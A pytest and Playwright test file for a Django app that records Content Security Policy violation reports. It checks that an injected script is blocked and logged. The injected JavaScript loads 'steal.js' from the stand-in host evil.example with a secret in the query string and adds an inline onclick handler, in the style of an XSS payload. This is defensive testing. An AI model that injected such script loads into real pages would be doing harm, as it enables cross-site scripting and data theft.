"""What a real browser reports, by `report-uri`: over plain HTTP browsers do not use `report-to`."""

import time
from collections.abc import Callable

import pytest
from playwright.sync_api import Page
from pytest_django.live_server_helper import LiveServer

from apps.cspreports.models import Violation

pytestmark = pytest.mark.django_db(transaction=True)

# An element, as markup that somebody brought in would make it.
BROUGHT_IN = """
const script = document.createElement("script");
script.src = "https://evil.example/steal.js?key=secret";
document.head.append(script);
const handler = document.createElement("p");
handler.setAttribute("onclick", "alert(1)");
document.body.append(handler);
handler.click();
"""


def test_a_script_that_was_brought_in_is_stopped_and_counted(
    live_server: LiveServer, open_page: Callable[..., Page]
) -> None:
    page = open_page()
    page.goto(f"{live_server.url}/about/")
    page.evaluate(BROUGHT_IN)
    wanted = {
        ("script-src-elem", "evil.example", "about/"),
        ("script-src-attr", "inline", "about/"),
    }
    until = time.monotonic() + 60
    found: set[tuple[str, str, str]] = set()
    while not wanted <= found and time.monotonic() < until:
        page.wait_for_timeout(100)
        found = set(Violation.objects.values_list("directive", "blocked", "page"))
    assert wanted <= found
